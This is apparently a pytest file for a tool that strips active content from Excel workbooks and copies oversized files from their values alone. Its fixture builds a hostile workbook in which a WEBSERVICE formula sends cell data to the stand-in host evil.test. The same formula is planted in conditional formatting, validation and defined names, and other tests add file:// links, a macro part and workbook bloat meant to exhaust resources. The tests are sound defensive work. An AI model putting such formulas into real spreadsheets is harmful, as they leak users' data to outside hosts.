"""検査結果.xlsx is a copy of another office's workbook, without active content."""

from __future__ import annotations

import hashlib
import io
import time
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.chart import BarChart, Reference
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import Font
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.table import Table
from support.masters import row, write_master

from pipeline.base.archives import pack, parts
from pipeline.master.read import read
from pipeline.model.findings import Finding, finding
from pipeline.model.grid import CellRef
from pipeline.workbooks.annotate import annotate
from pipeline.workbooks.inert import is_inert, is_small_enough

EXTERNAL_CALL = '=WEBSERVICE("http://evil.test/"&A1)'
FINDINGS = (finding("name-empty", title="事業名", at=CellRef("事業一覧", 2, 2)),)


def active_master(path: Path) -> Path:
    """A master with every type of active content."""
    write_master(path, [row(1), row(2)], meeting={"回": "第１回"})
    book = openpyxl.load_workbook(path)
    sheet: Any = book["事業一覧"]
    sheet["B2"].font = Font(bold=True)
    sheet.conditional_formatting.add(
        "A1:H9",
        FormulaRule(formula=[EXTERNAL_CALL[1:]]),  # type: ignore[no-untyped-call]  # of openpyxl
    )
    rule = DataValidation(type="list", formula1=EXTERNAL_CALL)
    rule.add("B2:B9")
    sheet.add_data_validation(rule)
    sheet["B3"].hyperlink = "file://evil.test/share"
    sheet["C3"].hyperlink = "http://evil.test/"
    sheet["Z1"] = EXTERNAL_CALL
    sheet["Z2"] = '=HYPERLINK("http://evil.test/","x")'
    book.defined_names["call"] = DefinedName("call", attr_text=EXTERNAL_CALL[1:])
    sheet.defined_names["own"] = DefinedName("own", attr_text=EXTERNAL_CALL[1:])
    sheet.add_table(Table(displayName="T1", ref="A1:H3"))
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=3, min_row=1, max_row=3))
    sheet.add_chart(chart, "K5")
    chart_sheet: Any = book.create_chartsheet("図")
    chart_sheet.add_chart(BarChart())
    book.save(path)
    return path


def annotated(path: Path, findings: tuple[Finding, ...] = FINDINGS) -> bytes:
    return annotate(read(path), findings)


def test_copy_has_no_active_content_of_the_master(tmp_path: Path) -> None:
    content = annotated(active_master(tmp_path / "台帳.xlsx"))
    whole = b"".join(part for _, part in parts(content))
    for word in (b"evil.test", b"WEBSERVICE", b"<f>", b"External", b"dataValidation", b"chart"):
        assert word not in whole
    assert is_inert(content)
    sheet = openpyxl.load_workbook(io.BytesIO(content))["事業一覧"]
    # Values, formats and the comments of the findings stay.
    assert sheet["B3"].value == row(2)["name"]
    assert sheet["B2"].font.b
    assert sheet["B2"].comment is not None


def test_master_with_active_content_is_not_inert(tmp_path: Path) -> None:
    assert not is_inert(active_master(tmp_path / "台帳.xlsx").read_bytes())


@pytest.mark.parametrize(
    ("part", "content"),
    [
        ("xl/externalLinks/externalLink1.xml", b"<x/>"),
        ("xl/vbaProject.bin", b"x"),
        ("xl/connections.xml", b"<x/>"),
        ("xl/worksheets/sheet9.xml", b"<worksheet><f>1</f></worksheet>"),
        ("xl/worksheets/_rels/sheet9.xml.rels", b'<a TargetMode="External"/>'),
    ],
)
def test_file_with_any_other_content_is_not_inert(
    tmp_path: Path, part: str, content: bytes
) -> None:
    write_master(tmp_path / "台帳.xlsx", [row(1)])
    plain = annotated(tmp_path / "台帳.xlsx")
    assert is_inert(plain)
    assert not is_inert(pack([*parts(plain), (part, content)]))


def edited(path: Path, part: str, old: bytes, new: bytes) -> Path:
    content = path.read_bytes()
    assert old in dict(parts(content))[part]
    path.write_bytes(
        pack((n, p.replace(old, new, 1) if n == part else p) for n, p in parts(content))
    )
    return path


MERGES = b"".join(b'<mergeCell ref="J%d:K%d"/>' % (n, n) for n in range(1, 49_000))


@pytest.mark.parametrize(
    ("part", "old", "new"),
    [
        ("xl/styles.xml", b"</cellXfs>", b"<xf/>" * 1_000_000 + b"</cellXfs>"),
        (
            "xl/worksheets/sheet1.xml",
            b"</sheetData>",
            b"</sheetData><mergeCells>"
            + MERGES * 1
            + b'<mergeCell ref="A9:XFD1048576"/></mergeCells>',
        ),
        (
            "xl/worksheets/sheet1.xml",
            b"</sheetData>",
            b'</sheetData><mergeCells><mergeCell ref="J9:XFD1048576"/></mergeCells>',
        ),
        (
            "xl/worksheets/sheet1.xml",
            b"<sheetData>",
            b"<cols>" + b'<col min="1" max="1"/>' * 500_000 + b"</cols><sheetData>",
        ),
    ],
    ids=["a million styles", "many merges", "one merge over everything", "columns"],
)
def test_file_too_slow_for_openpyxl_is_quickly_copied_from_its_values(
    tmp_path: Path, part: str, old: bytes, new: bytes
) -> None:
    path = edited(write_master(tmp_path / "台帳.xlsx", [row(1), row(2)]), part, old, new)
    assert not is_small_enough(path.read_bytes())
    start = time.process_time()
    content = annotated(path)
    assert time.process_time() - start < 15
    sheet = openpyxl.load_workbook(io.BytesIO(content))["事業一覧"]
    assert sheet["B3"].value == row(2)["name"]
    assert sheet["B2"].comment is not None


def test_ordinary_master_keeps_its_formats(tmp_path: Path) -> None:
    path = write_master(tmp_path / "台帳.xlsx", [row(n) for n in range(1, 60)])
    assert is_small_enough(path.read_bytes())


def test_large_unused_parts_are_not_loaded(tmp_path: Path) -> None:
    path = write_master(tmp_path / "台帳.xlsx", [row(1)])
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/pivotCache/records1.xml", b" " * 17_000_000)
    assert not is_small_enough(path.read_bytes())
    assert hashlib.sha256(path.read_bytes()).hexdigest() == read(path).sha256
